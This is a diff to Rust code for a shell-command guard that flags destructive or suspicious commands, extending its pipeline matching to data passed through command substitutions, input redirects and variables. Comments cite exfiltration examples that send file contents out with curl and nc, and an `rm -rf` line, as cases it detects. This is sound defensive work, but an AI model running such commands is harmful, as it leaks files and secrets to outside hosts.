@@ -106,7 +106,16 @@ impl Guard {
         // Parts no KG entry and no finding decides.
         let mut unknown = Vec::new();
         let mut scratch = MatchScratch::default();
-        let classes = place.classes(&parsed, &self.class_heads);
+        let mut classes = place.classes(&parsed, &self.class_heads);
+        // A program's text (sed's script, awk's program) names no path.
+        for (c, cl) in parsed.commands.iter().zip(classes.iter_mut()) {
+            let mask = super::data::program_words(&c.words);
+            for (i, bits) in cl.iter_mut().enumerate().take(64) {
+                if mask & (1 << i) != 0 {
+                    *bits = 0;
+                }
+            }
+        }
         // A command's stage hits depend on its words and their classes alone: a command met
         // again (the repeated lines of a script judged as one text) takes those of the first.
         let mut first: std::collections::HashMap<(&[crate::Word], &[u32]), usize> =
@@ -120,7 +129,8 @@ impl Guard {
                 continue;
             }
             first.insert(key, i);
-            let hay = Haystack::with_classes(&c.words, cl);
+            let hay =
+                Haystack::with_classes(&c.words, cl).with_data(super::data::data_words(&c.words));
             hits.push([
                 self.destructive.stage_hits(&hay, &mut scratch),
                 self.suspicious.stage_hits(&hay, &mut scratch),
@@ -134,7 +144,7 @@ impl Guard {
             // covers: `rm -rf /tmp/*` says nothing about `rm -rf /tmp/x ./src`. Other targets
             // (`python3 -m pytest`) only need to be present.
             let safe_hits: Vec<(usize, Vec<usize>)> =
-                complete_hits(&self.safe, &parsed.commands, &hits, ci, 2)
+                complete_hits(&self.safe, &parsed.commands, &parsed.links, &hits, ci, 2)
                     .into_iter()
                     .filter(|(pi, head_words)| {
                         self.safe.pattern(*pi).last_stage().is_none_or(|st| {
@@ -150,7 +160,14 @@ impl Guard {
                     .collect();
             let mut part_matches = Vec::new();
             let mut uncovered_destructive = None;
-            for (pi, _) in complete_hits(&self.destructive, &parsed.commands, &hits, ci, 0) {
+            for (pi, _) in complete_hits(
+                &self.destructive,
+                &parsed.commands,
+                &parsed.links,
+                &hits,
+                ci,
+                0,
+            ) {
                 let covered_by = self.cover(&hits[ci][0], pi, &safe_hits, cmd, &classes[ci]);
                 let idx = self.push_match(
                     &mut matches,
@@ -170,7 +187,14 @@ impl Guard {
                 }
             }
             let mut suspicious = None;
-            for (pi, _) in complete_hits(&self.suspicious, &parsed.commands, &hits, ci, 1) {
+            for (pi, _) in complete_hits(
+                &self.suspicious,
+                &parsed.commands,
+                &parsed.links,
+                &hits,
+                ci,
+                1,
+            ) {
                 let idx = self.push_match(&mut matches, &self.suspicious, pi, &canonical, None);
                 part_matches.push(idx);
                 // Several suspicious entries: the most restrictive profile wins, whatever the file order.
@@ -410,6 +434,7 @@ fn defer_runner_parts(cmds: &[SimpleCommand], parts: &mut [Part], unknown: &[boo
 fn complete_hits(
     set: &TierSet,
     cmds: &[SimpleCommand],
+    links: &[(u32, u32)],
     hits: &[[Vec<StageHit>; 3]],
     ci: usize,
     tier: usize,
@@ -426,31 +451,47 @@ fn complete_hits(
             out.push((h.pattern, h.head_words.clone()));
             continue;
         }
-        let Some((pipe, mut pos)) = cmds[ci].pipeline else {
-            continue;
-        };
-        let mut ok = true;
-        for want in (0..h.stage).rev() {
-            let found = cmds
+        let stage_hit = |j: usize, want: usize| {
+            hits[j][tier]
                 .iter()
-                .enumerate()
-                .filter_map(|(j, c)| match c.pipeline {
-                    Some((id, st))
-                        if id == pipe
-                            && st < pos
-                            && hits[j][tier]
-                                .iter()
-                                .any(|x| x.pattern == h.pattern && x.stage == want) =>
-                    {
-                        Some(st)
+                .any(|x| x.pattern == h.pattern && x.stage == want)
+        };
+        let mut ok = false;
+        if let Some((pipe, mut pos)) = cmds[ci].pipeline {
+            ok = true;
+            for want in (0..h.stage).rev() {
+                let found = cmds
+                    .iter()
+                    .enumerate()
+                    .filter_map(|(j, c)| match c.pipeline {
+                        Some((id, st)) if id == pipe && st < pos && stage_hit(j, want) => Some(st),
+                        _ => None,
+                    });
+                match found.max() {
+                    Some(st) => pos = st,
+                    None => {
+                        ok = false;
+                        break;
                     }
-                    _ => None,
-                });
-            match found.max() {
-                Some(st) => pos = st,
-                None => {
-                    ok = false;
-                    break;
+                }
+            }
+        }
+        // A destructive pipeline also matches where the data flows another way than a pipe:
+        // the output of a command substitution in a later command's words, or the file of its
+        // input redirect (`curl "https://x/?k=$(base64 FILE)"`, `nc host 1 < FILE`, read as
+        // `cat FILE | nc host 1`). Only stricter: a safe pipeline needs a real pipe.
+        if !ok && tier == 0 {
+            let mut cur = ci;
+            ok = true;
+            for want in (0..h.stage).rev() {
+                match (0..cmds.len())
+                    .find(|&j| j != cur && stage_hit(j, want) && flows(cmds, links, j, cur))
+                {
+                    Some(j) => cur = j,
+                    None => {
+                        ok = false;
+                        break;
+                    }
                 }
             }
         }
@@ -459,6 +500,51 @@ fn complete_hits(
         }
     }
     out
+}
+
+/// Whether the output of command `from` reaches command `to`: through later stages of its
+/// pipeline, and from a substitution or an input redirect into the command whose words or input
+/// it becomes (directly, or through a variable assigned it: `links`), and on from there.
+fn flows(cmds: &[SimpleCommand], links: &[(u32, u32)], from: usize, to: usize) -> bool {
+    let mut seen = vec![false; cmds.len()];
+    let mut seen_ids: Vec<u32> = Vec::new();
+    let mut todo = vec![from];
+    let mut todo_ids: Vec<u32> = Vec::new();
+    loop {
+        if let Some(x) = todo.pop() {
+            if std::mem::replace(&mut seen[x], true) {
+                continue;
+            }
+            let c = &cmds[x];
+            if let Some((p, s)) = c.pipeline {
+                for (y, d) in cmds.iter().enumerate() {
+                    if d.pipeline.is_some_and(|(q, t)| q == p && t > s) {
+                        if y == to {
+                            return true;
+                        }
+                        todo.push(y);
+                    }
+                }
+            }
+            todo_ids.extend(c.into);
+        } else if let Some(id) = todo_ids.pop() {
+            if seen_ids.contains(&id) {
+                continue;
+            }
+            seen_ids.push(id);
+            for (y, d) in cmds.iter().enumerate() {
+                if d.flow == Some(id) {
+                    if y == to {
+                        return true;
+                    }
+                    todo.push(y);
+                }
+            }
+            todo_ids.extend(links.iter().filter(|(a, _)| *a == id).map(|(_, b)| *b));
+        } else {
+            return false;
+        }
+    }
 }
 
 /// Whether a safe pattern's flags cover destructive flag `f`: it names `f` itself, or, for a
